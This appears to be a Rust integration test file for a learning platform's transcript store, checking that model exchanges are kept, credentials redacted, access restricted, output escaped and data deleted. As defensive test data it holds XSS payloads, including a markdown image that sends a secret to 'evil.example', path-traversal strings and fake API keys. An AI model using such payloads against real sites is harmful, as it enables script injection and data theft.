//! Transcripts in local R2: every exchange kept (streamed, failed, disconnected), redacted,
//! viewable only by its learner, exportable as JSON Lines, deleted with the account.

use crate::helpers::{json, spawn_app, Learner, TestApp};
use futures_util::StreamExt;
use serde_json::{json, Value};

fn nonce() -> String {
    format!("n{}", std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_nanos())
}

async fn call(app: &TestApp, l: &Learner, path: &str, body: Value) -> (u16, String, String) {
    let resp = app.as_key("POST", path, &l.key).header("x-academy-lesson", "agentic-loop/run-7").json(&body).send().await.unwrap();
    let status = resp.status().as_u16();
    let id = resp.headers().get("x-academy-request-id").map(|v| v.to_str().unwrap().to_string()).unwrap_or_default();
    (status, id, resp.text().await.unwrap_or_default())
}

/// The stored transcript, once written (it is written after the response, in `wait_until`).
async fn transcript(app: &TestApp, l: &Learner, id: &str) -> Value {
    for _ in 0..100 {
        let (status, body) = json(app.as_key("GET", &format!("/api/me/transcripts/{id}"), &l.key).send().await.unwrap()).await;
        if status == 200 {
            return body;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    panic!("no transcript for {id}\n{}", app.log());
}

#[tokio::test]
async fn a_plain_call_is_kept_with_request_response_usage_and_cost() {
    let app = spawn_app().await;
    let l = app.enroll().await;
    let n = nonce();
    let body = json!({"model": "course-strong", "max_tokens": 50, "temperature": 0.2, "system": "Be brief.", "messages": [{"role": "user", "content": format!("hello {n} [stub:usage=90,12]")}]});
    let (status, id, _) = call(&app, &l, "/v1/messages", body).await;
    assert_eq!(status, 200);
    let t = transcript(&app, &l, &id).await;
    assert_eq!(t["request_id"].as_str(), Some(id.as_str()));
    assert_eq!(t["model"], "course-strong");
    assert_eq!(t["lesson_id"], "agentic-loop");
    assert_eq!(t["run_id"], "run-7");
    assert_eq!(t["request"]["system"], "Be brief.");
    assert_eq!(t["request"]["params"]["temperature"], 0.2);
    assert!(t["request"]["messages"][0]["content"].as_str().unwrap().contains(&n));
    assert_eq!(t["usage"]["input"], 90);
    assert!(t["cost_micros"].as_i64().unwrap() > 0);
    assert!(!t["response"]["content"][0]["text"].as_str().unwrap().is_empty());
    assert!(t["aig_log_id"].is_string());
}

#[tokio::test]
async fn a_streamed_transcript_matches_what_the_client_received() {
    let app = spawn_app().await;
    let l = app.enroll().await;
    let body = json!({"model": "course-strong", "max_tokens": 50, "stream": true, "messages": [{"role": "user", "content": format!("s {} [stub:usage=40,9]", nonce())}]});
    let (status, id, sse) = call(&app, &l, "/v1/messages", body).await;
    assert_eq!(status, 200);
    // Reassemble the client's text from its own bytes.
    let mut text = String::new();
    for line in sse.lines() {
        if let Some(data) = line.strip_prefix("data: ") {
            let v: Value = serde_json::from_str(data).unwrap();
            if v["type"] == "content_block_delta" {
                text.push_str(v["delta"]["text"].as_str().unwrap_or(""));
            }
        }
    }
    let t = transcript(&app, &l, &id).await;
    assert_eq!(t["response"]["content"][0]["text"].as_str(), Some(text.as_str()));
    assert!(t["response"]["stop_reason"].is_string());
    assert_eq!(t["stream"], true);
}

#[tokio::test]
async fn failed_and_disconnected_calls_are_kept_too() {
    let app = spawn_app().await;
    let l = app.enroll().await;
    let (status, id, _) = call(&app, &l, "/v1/messages", json!({"model": "course-strong", "max_tokens": 20, "messages": [{"role": "user", "content": format!("{} [stub:status=529]", nonce())}]})).await;
    assert_eq!(status, 529);
    let t = transcript(&app, &l, &id).await;
    assert_eq!(t["status"], 529);
    assert!(!t["response"]["error"].is_null());

    let resp = app
        .as_key("POST", "/v1/chat/completions", &l.key)
        .json(&json!({"model": "course-openai", "stream": true, "messages": [{"role": "user", "content": format!("{} [stub:usage=30,8] [stub:slow=150]", nonce())}]}))
        .send()
        .await
        .unwrap();
    let id = resp.headers()["x-academy-request-id"].to_str().unwrap().to_string();
    let mut s = resp.bytes_stream();
    s.next().await.unwrap().unwrap();
    drop(s);
    let t = transcript(&app, &l, &id).await;
    assert_eq!(t["usage"]["output"], 8, "the pump read on after the client left");
    assert!(!t["response"]["content"][0]["text"].as_str().unwrap().is_empty());
}

#[tokio::test]
async fn keys_and_credentials_are_redacted_before_storage() {
    let app = spawn_app().await;
    let l = app.enroll().await;
    let leak = format!(
        "my key is {} and my AWS key AKIAABCDEFGHIJKLMNOP and sk-ant-api03-{} and Bearer abcdef0123456789abcdef and {} {}",
        l.key,
        "x1".repeat(20),
        crate::helpers::ANTHROPIC_KEY,
        nonce()
    );
    let (_, id, _) = call(&app, &l, "/v1/messages", json!({"model": "course-strong", "max_tokens": 20, "messages": [{"role": "user", "content": leak}]})).await;
    let t = transcript(&app, &l, &id).await.to_string();
    assert!(!t.contains(&l.key), "the academy key is gone");
    assert!(!t.contains("AKIAABCDEFGHIJKLMNOP"));
    assert!(!t.contains("sk-ant-api03-x1"));
    assert!(!t.contains("abcdef0123456789abcdef"));
    assert!(t.contains("[REDACTED"));
    assert!(!t.contains("authorization"), "request headers are kept only from an allowlist");
    assert!(!t.contains(crate::helpers::ANTHROPIC_KEY));
}

#[tokio::test]
async fn learners_cannot_open_each_others_transcripts() {
    let app = spawn_app().await;
    let a = app.enroll().await;
    let b = app.enroll().await;
    let (_, id, _) = call(&app, &b, "/v1/messages", json!({"model": "course-strong", "max_tokens": 20, "messages": [{"role": "user", "content": nonce()}]})).await;
    transcript(&app, &b, &id).await;
    for path in [
        format!("/api/me/transcripts/{id}"),
        format!("/me/transcripts/{id}"),
        "/api/me/transcripts/..%2F..%2Ftranscripts".to_string(),
        format!("/api/me/transcripts/transcripts%2F{}%2F2026-11-26%2F{id}.json", b.id),
        "/api/me/transcripts/req_00000000000000000000000000".to_string(),
    ] {
        let resp = app.as_cookie("GET", &path, &a.cookie).send().await.unwrap();
        assert_eq!(resp.status(), 404, "{path}");
    }
    let (_, list) = json(app.as_key("GET", "/api/me/transcripts", &a.key).send().await.unwrap()).await;
    assert_eq!(list["transcripts"].as_array().unwrap().len(), 0);
}

#[tokio::test]
async fn the_viewer_escapes_model_and_learner_text() {
    let app = spawn_app().await;
    let l = app.enroll().await;
    let hostile = "<script>alert(1)</script> [x](javascript:alert(1)) ![y](https://evil.example/leak?d=secret) <img src=x onerror=alert(1)>";
    let (_, id, _) = call(&app, &l, "/v1/messages", json!({"model": "demo", "max_tokens": 200, "messages": [{"role": "user", "content": format!("Repeat this: {hostile}")}]})).await;
    transcript(&app, &l, &id).await;
    let resp = app.request("GET", &format!("/me/transcripts/{id}")).header("cookie", &l.cookie).send().await.unwrap();
    assert_eq!(resp.status(), 200);
    assert_eq!(resp.headers()["cache-control"], "private, no-store");
    let html = resp.text().await.unwrap();
    assert!(html.contains("&lt;script&gt;"));
    // The text survives, escaped; no element or link is made of it.
    assert!(html.contains("&lt;img src=x onerror=alert(1)&gt;"));
    for bad in ["<script>alert", "href=\"javascript:", "<img", "src=\"https://evil", "href=\"https://evil"] {
        assert!(!html.contains(bad), "{bad}");
    }
    let list = app.request("GET", "/me/transcripts").header("cookie", &l.cookie).send().await.unwrap().text().await.unwrap();
    assert!(list.contains(&format!("/me/transcripts/{id}")));
}

#[tokio::test]
async fn listing_filters_paginates_and_exports_json_lines() {
    let app = spawn_app().await;
    let l = app.enroll().await;
    let mut ids = Vec::new();
    for i in 0..5 {
        let lesson = if i % 2 == 0 { "agentic-loop" } else { "model-api" };
        let resp = app.as_key("POST", "/v1/messages", &l.key).header("x-academy-lesson", lesson).json(&json!({"model": "demo", "max_tokens": 20, "messages": [{"role": "user", "content": format!("call {i}")}]})).send().await.unwrap();
        ids.push(resp.headers()["x-academy-request-id"].to_str().unwrap().to_string());
    }
    for id in &ids {
        transcript(&app, &l, id).await;
    }
    let (_, page1) = json(app.as_key("GET", "/api/me/transcripts?limit=2", &l.key).send().await.unwrap()).await;
    let first: Vec<&str> = page1["transcripts"].as_array().unwrap().iter().map(|t| t["request_id"].as_str().unwrap()).collect();
    assert_eq!(first, vec![ids[4].as_str(), ids[3].as_str()], "newest first");
    let next = page1["next_before"].as_str().unwrap();
    let (_, page2) = json(app.as_key("GET", &format!("/api/me/transcripts?limit=2&before={next}"), &l.key).send().await.unwrap()).await;
    assert_eq!(page2["transcripts"][0]["request_id"].as_str(), Some(ids[2].as_str()));
    let (_, filtered) = json(app.as_key("GET", "/api/me/transcripts?lesson=model-api", &l.key).send().await.unwrap()).await;
    assert_eq!(filtered["transcripts"].as_array().unwrap().len(), 2);
    for bad in ["?limit=0", "?limit=x", "?before=../../x", "?lesson=nope", "?day=yesterday"] {
        let (s, _) = json(app.as_key("GET", &format!("/api/me/transcripts{bad}"), &l.key).send().await.unwrap()).await;
        assert!(s == 400 || s == 404, "{bad}: {s}");
    }
    let resp = app.as_key("GET", "/api/me/transcripts.jsonl", &l.key).send().await.unwrap();
    assert_eq!(resp.headers()["content-type"], "application/x-ndjson");
    let body = resp.text().await.unwrap();
    let lines: Vec<Value> = body.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(lines.len(), 5);
    assert_eq!(lines[0]["request_id"].as_str(), Some(ids[0].as_str()));
}

#[tokio::test]
async fn deleting_the_account_deletes_its_transcripts() {
    let app = spawn_app().await;
    let l = app.enroll().await;
    let (_, id, _) = call(&app, &l, "/v1/messages", json!({"model": "demo", "max_tokens": 20, "messages": [{"role": "user", "content": "to be deleted"}]})).await;
    let t = transcript(&app, &l, &id).await;
    let day = &t["created_at"].as_str().unwrap()[..10];
    let key = format!("transcripts/{}/{day}/{id}.json", l.id);
    assert!(r2_object(&app, &key).await.is_some(), "the object exists before deletion");
    let (s, _) = json(app.as_key("DELETE", "/api/me", &l.key).send().await.unwrap()).await;
    assert_eq!(s, 200);
    assert!(r2_object(&app, &key).await.is_none(), "the object is gone after deletion");
}

/// Reads an object from the instance's local R2 with wrangler's own CLI.
async fn r2_object(app: &TestApp, key: &str) -> Option<Vec<u8>> {
    let root = crate::helpers::root();
    let config = app.instance.state.join("wrangler.toml");
    let persist = app.instance.state.join("persist");
    let key = key.to_string();
    let out = tokio::task::spawn_blocking(move || {
        std::process::Command::new(root.join("node_modules/.bin/wrangler"))
            .current_dir(&root)
            .args(["r2", "object", "get", &format!("academy-transcripts/{key}"), "--local", "--pipe", "-c"])
            .arg(&config)
            .arg("--persist-to")
            .arg(&persist)
            .env("WRANGLER_SEND_METRICS", "false")
            .env("CI", "true")
            .output()
            .unwrap()
    })
    .await
    .unwrap();
    (out.status.success() && !out.stdout.is_empty()).then_some(out.stdout)
}
